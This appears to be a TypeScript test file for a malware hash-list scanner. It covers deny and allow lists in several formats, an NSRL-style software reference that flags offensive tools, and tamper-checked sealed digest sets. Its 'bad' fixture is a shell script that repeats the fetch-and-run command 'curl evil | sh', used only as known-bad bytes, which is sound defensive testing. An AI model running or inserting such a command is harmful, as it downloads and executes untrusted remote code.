import { createHash, hash } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';

import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';

import { tlsh } from '../../digest/tlsh.ts';
import { randomWords } from '../../digest/testing/random-bytes.ts';
import { writeRds } from '../../testing/rds.ts';
import { ListError } from '../lists/list-error.ts';
import { describeScanner, subjectOf } from '../scanner.suite.ts';
import type { ScanSubject } from '../scanner.ts';
import { flagsOf, knownSoftwareFlag, knownThreatFlag } from './hash-flags.ts';
import { makeHashList } from './hash-list.ts';
import type { HashList, ListTerms } from './hash-list.ts';
import { createHashSetScanner } from './hash-set-scanner.ts';
import { parseHashList } from './parse-hash-list.ts';
import { knownSoftware, lookUpReputation } from './reputation.ts';
import { SealedSet } from './sealed-set.ts';
import { openSoftwareReference, readReferenceEntries } from './software-reference.ts';
import { categoriesOf } from './tool-categories.ts';
import { sealList, writeSealedSet } from './write-sealed-set.ts';

const nowMs = Date.parse('2026-11-01T00:00:00Z');
const now = (): number => nowMs;
const bad = Buffer.from(`#!/bin/sh\n${'curl evil | sh\n'.repeat(9)}`);
const clean = Buffer.from(
  'nothing to see here, but long enough to differ from other files '.repeat(2),
);
let folder = '';

beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'lazaret-hash-set-'));
});

afterEach(() => {
  rmSync(folder, { recursive: true });
});

function listOf(text: string, terms: Partial<ListTerms> = {}): HashList {
  return makeHashList({ name: 'threats', kind: 'deny', ...terms }, parseHashList(text));
}

function digestOf(bytes: Buffer, algorithm = 'sha256'): string {
  return createHash(algorithm).update(bytes).digest('hex');
}

describeScanner('hash sets', () =>
  Promise.resolve({
    scanner: createHashSetScanner({ lists: [listOf(digestOf(bad))], now }),
    bad: { bytes: bad, rule: 'threats' },
    clean,
    close: () => Promise.resolve(),
  }),
);

describe('lists', () => {
  const [a, b, c] = [digestOf(bad), digestOf(bad, 'sha1'), digestOf(bad, 'md5')];

  test.each([
    ['plain', `# list\r\n${a.toUpperCase()}\r\n${b} *bin/sh\n\nMD5:${c}\nnot a digest\n`],
    [
      'hashdeep',
      `%%%% HASHDEEP-1.0\n%%%% size,md5,sha256,filename\n## $ x\n145,${c},${a},a,b.sh\n`,
    ],
    ['csv', `name,sha256,Size,sha1\n"a, ""b""",${a},145,${b}\n`],
    ['misp-csv', `uuid,type,value\n1,sha256,${a}\n2,filename|sha1,x.sh|${b}\n3,domain,evil.test\n`],
    [
      'misp-json',
      JSON.stringify({
        Event: {
          Attribute: [{ type: 'md5', value: c, comment: 'dropper' }],
          Object: [{ Attribute: [{ type: 'filename|sha256', value: `x|${a}` }] }],
        },
      }),
    ],
  ])('in the form %s', (format, text) => {
    const parsed = parseHashList(text);
    expect(parsed.format).toBe(format);
    const digests = parsed.entries.map(({ digest }) => digest);
    expect(digests).toContain(format === 'misp-csv' ? b : digests[0]);
    expect(parsed.entries.some(({ digest }) => digest === a)).toBe(true);
    expect(parsed.entries.length).toBeGreaterThan(1);
  });

  test('with the tags of BSD', () => {
    const text = `SHA256 (bin/a (1).sh) = ${a}\nSHA512 (b) = ${a}${a}\n`;
    expect(parseHashList(text)).toMatchObject({
      entries: [{ digest: a, label: 'bin/a (1).sh' }],
      skipped: 1,
    });
  });

  test('count entries that are not digests', () => {
    const misp = `type,value\nsha256,${a}\ndomain,evil.test\nimphash,${c}\nmd5,short\n`;
    expect(parseHashList(misp)).toMatchObject({ entries: [{ digest: a }], skipped: 1 });
    expect(parseHashList('# none\n\n').skipped).toBe(0);
  });

  test('that are not completely readable are a problem if they are deny lists', async () => {
    const text = `${a}\n${a.slice(1)}\n`;
    const healthOf = async (kind: 'allow' | 'deny') => {
      const scanner = createHashSetScanner({ lists: [listOf(text, { kind })], now });
      return scanner.describe();
    };
    expect(await healthOf('deny')).toMatchObject({
      healthy: false,
      problem: 'threats: 1 of its lines have no SHA-256, SHA-1 or MD5',
    });
    expect(await healthOf('allow')).toMatchObject({ healthy: true });
  });

  test('keep sizes and labels', () => {
    const deep = `%%%% HASHDEEP-1.0\n%%%% size,sha256,filename\n145,${a},a,b.sh\n`;
    expect(parseHashList(deep).entries).toEqual([
      { algorithm: 'sha256', digest: a, sizeBytes: 145, label: 'a,b.sh' },
    ]);
  });

  test('any text yields entries or a ListError', () => {
    const pieces = fc.constantFrom(
      '%%%% HASHDEEP',
      '\n',
      ',',
      '"',
      a,
      '{"Event":',
      '[',
      ']',
      '}',
      'type,value',
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string())), (parts) => {
        try {
          for (const { digest } of parseHashList(parts.join('')).entries) {
            expect(digest).toMatch(/^[0-9a-f]+$/);
          }
        } catch (error) {
          expect(error).toBeInstanceOf(ListError);
        }
      }),
    );
  });
});

describe('the scanner', () => {
  const scan = (list: HashList, subject: ScanSubject): ReturnType<typeof scanner.scan> => {
    const scanner = createHashSetScanner({ lists: [list], now });
    return scanner.scan(subject);
  };

  test('names the weaker digest that matched', async () => {
    const answer = await scan(listOf(digestOf(bad, 'md5')), subjectOf(bad));
    expect(answer.findings).toMatchObject([
      { class: 'known-bad', severity: 'medium', evidence: { matchedBy: 'md5' } },
    ]);
  });

  test('never reports the empty file, and limits reports of tiny ones', async () => {
    const empty = Buffer.alloc(0);
    const scanner = createHashSetScanner({ lists: [listOf(digestOf(empty))], now });
    expect(scanner.wants(subjectOf(empty))).toBe(false);
    expect((await scanner.scan(subjectOf(empty))).findings).toEqual([]);
    const tiny = await scan(listOf(digestOf(Buffer.from('x'))), subjectOf(Buffer.from('x')));
    expect(tiny.findings).toMatchObject([{ severity: 'low' }]);
  });

  test('a file on both kinds of list is a finding with both', async () => {
    const allow = listOf(digestOf(bad), { name: 'ours', kind: 'allow' });
    const scanner = createHashSetScanner({ lists: [allow, listOf(digestOf(bad))], now });
    const { findings } = await scanner.scan(subjectOf(bad));
    expect(findings).toMatchObject([{ evidence: { alsoKnownAsSoftwareBy: ['ours'] } }]);
    expect(lookUpReputation({ lists: [allow], now }, subjectOf(bad))).toMatchObject({
      software: 'yes',
      threat: 'no',
    });
  });

  test('trusts only SHA-256, and the size where the list has one', () => {
    const knows = (text: string): string => {
      const lists = [listOf(text, { kind: 'allow' })];
      return lookUpReputation({ lists, now }, subjectOf(bad)).software;
    };
    expect(knows(digestOf(bad, 'md5'))).toBe('no');
    expect(knows(digestOf(bad, 'sha1'))).toBe('no');
    expect(knows(digestOf(bad))).toBe('yes');
    expect(knows(`sha256,size\n${digestOf(bad)},${bad.length}`)).toBe('yes');
    expect(knows(`sha256,size\n${digestOf(bad)},1`)).toBe('no');
  });

  test('an expired list is ignored, and its expiry changes the signatures', async () => {
    let time = nowMs;
    const list = listOf(digestOf(bad), { expiresAt: '2026-11-02T00:00:00Z' });
    const scanner = createHashSetScanner({ lists: [list], now: () => time });
    const before = await scanner.scan(subjectOf(bad));
    time += 2 * 86_400_000;
    const after = await scanner.scan(subjectOf(bad));
    expect([before.findings.length, after.findings.length]).toEqual([1, 0]);
    expect(after.signatures).not.toBe(before.signatures);
  });

  test('a missing source is unhealthy and the result is partial, not "unknown"', async () => {
    const sources = { missing: ['the software reference is missing'], now };
    const scanner = createHashSetScanner(sources);
    expect(await scanner.describe()).toMatchObject({ healthy: false });
    expect(await scanner.scan(subjectOf(clean))).toMatchObject({
      state: 'partial',
      reason: 'not_available',
    });
    expect(knownSoftware(sources, digestOf(clean), clean.length)).toBe('unavailable');
  });

  test('two files with the same name never share a result', async () => {
    const scanner = createHashSetScanner({ lists: [listOf(digestOf(bad))], now });
    // Nearly the same content under the same name: a similarity digest may be equal.
    const [one, other] = [randomWords(1, 5_000), randomWords(1, 5_000)];
    other[2_500] = 0x21;
    expect(tlsh(one)?.slice(8)).toBe(tlsh(other)?.slice(8));
    const list = createHashSetScanner({ lists: [listOf(digestOf(other))], now });
    expect((await list.scan(subjectOf(one, 'run.sh'))).findings).toEqual([]);
    expect((await list.scan(subjectOf(other, 'run.sh'))).findings).toHaveLength(1);
    expect((await scanner.scan(subjectOf(other, 'run.sh'))).findings).toEqual([]);
  });
});

describe('the software reference', () => {
  const shared = Buffer.from('a common library that everything ships '.repeat(3));
  const packages = [
    { packageId: 1, name: 'Office', version: '1', applicationType: 'Word Processor' },
    { packageId: 2, name: 'EvilKit', version: '2', applicationType: 'Hacker Tool, Steganography' },
  ];
  const row = (
    bytes: Buffer,
    packageId: number,
  ): Parameters<typeof writeRds>[1]['files'][number] => ({
    sha256: digestOf(bytes),
    fileName: 'f',
    sizeBytes: bytes.length,
    packageId,
  });
  const files = [row(bad, 2), row(shared, 1), row(shared, 2), row(clean, 1)];

  test.each([
    ['minimal', true],
    ['minimal', false],
    ['full', true],
  ] as const)('is used in place in the layout %s, with CRC %s', async (layout, crc32) => {
    const path = join(folder, 'rds.db');
    writeRds(path, { files, packages }, { layout, crc32 });
    const reference = openSoftwareReference(path);
    expect(reference.release).toMatch(new RegExp(`^2026\\.09\\.1 modern ${layout} `));
    const scanner = createHashSetScanner({ reference, now });
    const program = (bytes: Buffer): ScanSubject => ({ ...subjectOf(bytes), kind: 'script' });
    expect((await scanner.scan(program(bad))).findings).toMatchObject([
      {
        class: 'dual-use',
        severity: 'low',
        evidence: { categories: ['offensive-tool', 'steganography'], products: ['EvilKit 2'] },
      },
    ]);
    // Tools include common libraries and images: neither is a tool.
    expect((await scanner.scan(program(shared))).findings).toEqual([]);
    expect((await scanner.scan({ ...program(bad), kind: 'png' })).findings).toEqual([]);
    const sources = { reference, now };
    expect(knownSoftware(sources, digestOf(clean), clean.length)).toBe('yes');
    expect(knownSoftware(sources, digestOf(clean), clean.length + 1)).toBe('no');
    await scanner.close();
    expect(readdirSync(folder)).toEqual(['rds.db']);
    expect(knownSoftware(sources, digestOf(clean), clean.length)).toBe('unavailable');
  });

  test('is refused when a lookup would read all of it, or when it is invalid', () => {
    const path = join(folder, 'slow.db');
    const database = new DatabaseSync(path);
    database.exec('CREATE TABLE FILE (sha256, file_size, package_id); CREATE TABLE PKG (name)');
    database.close();
    expect(() => openSoftwareReference(path)).toThrow(/no index/);
    writeFileSync(join(folder, 'text.db'), 'text instead of a database'.repeat(40));
    expect(() => openSoftwareReference(join(folder, 'text.db'))).toThrow(/./);
    expect(() => openSoftwareReference(join(folder, 'absent.db'))).toThrow(/./);
  });

  test.each(['minimal', 'full'] as const)('is sealed from the layout %s', async (layout) => {
    const [path, sealed] = [join(folder, 'rds.db'), join(folder, 'rds.set')];
    writeRds(path, { files, packages }, { layout });
    const terms = { name: 'NSRL', source: 'NIST', release: '2026.09.1', madeAt: '2026-11-01' };
    const header = writeSealedSet(sealed, terms, readReferenceEntries(path));
    expect(header).toMatchObject({ entries: 3, software: 3, threats: 0 });
    const scanner = createHashSetScanner({ sealed: [SealedSet.open(sealed)], now });
    const program = (bytes: Buffer): ScanSubject => ({ ...subjectOf(bytes), kind: 'elf' });
    expect((await scanner.scan(program(bad))).findings).toMatchObject([{ class: 'dual-use' }]);
    expect((await scanner.scan(program(shared))).findings).toEqual([]);
    await scanner.close();
  });

  test('maps descriptions of tools, also combined ones', () => {
    expect(categoriesOf('Operating System')).toEqual([]);
    expect(categoriesOf('Keylogger / Password Recovery')).toEqual([
      'surveillance',
      'password-recovery',
    ]);
    expect(categoriesOf('Hackers paradise')).toEqual([]);
  });
});

describe('a sealed set', () => {
  const terms = { name: 'sealed', source: 'a test', release: '1', madeAt: '2026-11-01T00:00:00Z' };
  const digests = Array.from({ length: 5_000 }, (_, at) => hash('sha256', `file ${at}`)).toSorted();

  test('finds the sealed digests and no others, with all flags', () => {
    const path = join(folder, 'set');
    const entries = digests.flatMap((sha256, at) =>
      at % 2 === 0
        ? [{ sha256, flags: knownSoftwareFlag }]
        : [
            { sha256, flags: flagsOf(['steganography']) },
            { sha256, flags: knownThreatFlag },
          ],
    );
    const header = writeSealedSet(path, terms, entries);
    expect(header).toMatchObject({ entries: 5_000, software: 5_000, threats: 2_500 });
    const set = SealedSet.open(path);
    for (const [at, sha256] of digests.entries())
      expect(set.find(sha256)).toBe(at % 2 === 0 ? 1 : 11);
    for (let at = 5_000; at < 6_000; at += 1)
      expect(set.find(hash('sha256', `file ${at}`))).toBeUndefined();
    expect(set.find('')).toBeUndefined();
    expect(set.verify()).toBe(true);
    set.close();
    expect(readdirSync(folder)).toEqual(['set']);
  });

  test('is a source of the scanner', async () => {
    const path = join(folder, 'set');
    writeSealedSet(path, terms, sealList(listOf(digestOf(bad))));
    const scanner = createHashSetScanner({ sealed: [SealedSet.open(path)], now });
    expect((await scanner.scan(subjectOf(bad))).findings).toMatchObject([{ rule: 'sealed' }]);
    expect((await scanner.scan(subjectOf(clean))).findings).toEqual([]);
    await scanner.close();
  });

  test('is not published when its digests do not ascend', () => {
    const path = join(folder, 'set');
    const entries = digests.toReversed().map((sha256) => ({ sha256, flags: 1 }));
    expect(() => writeSealedSet(path, terms, entries)).toThrow(ListError);
    expect(readdirSync(folder)).toEqual([]);
  });

  test('supports large ranges of one prefix', () => {
    const path = join(folder, 'set');
    const same = Array.from(
      { length: 9_000 },
      (_, at) => `abcd${digests[at % 5_000]?.slice(0, 52)}${at.toString(16).padStart(8, '0')}`,
    );
    writeSealedSet(
      path,
      terms,
      same.toSorted().map((sha256) => ({ sha256, flags: 1 })),
    );
    const set = SealedSet.open(path);
    for (let at = 0; at < 9_000; at += 97) expect(set.find(same[at] ?? '')).toBe(1);
    expect(set.find(`abcd${'0'.repeat(60)}`)).toBeUndefined();
    expect(set.find(`abcd${'f'.repeat(60)}`)).toBeUndefined();
    set.close();
  });

  test('is refused or fails verification when bytes were changed', () => {
    const path = join(folder, 'set');
    writeSealedSet(
      path,
      terms,
      digests.map((sha256) => ({ sha256, flags: 1 })),
    );
    const bytes = readFileSync(path);
    for (let seed = 0; seed < 40; seed += 1) {
      const changed = Buffer.from(bytes);
      const at = (seed * 10_007) % bytes.length;
      changed[at] = (changed[at] ?? 0) ^ 0x55;
      writeFileSync(path, seed % 5 === 0 ? changed.subarray(0, at) : changed);
      let isAccepted = true;
      try {
        const set = SealedSet.open(path);
        // Padding of the header is not content.
        isAccepted = set.verify() && at >= 4_096;
        set.close();
      } catch (error) {
        isAccepted = false;
        expect(error).toBeInstanceOf(ListError);
      }
      expect(isAccepted).toBe(false);
    }
  });
});
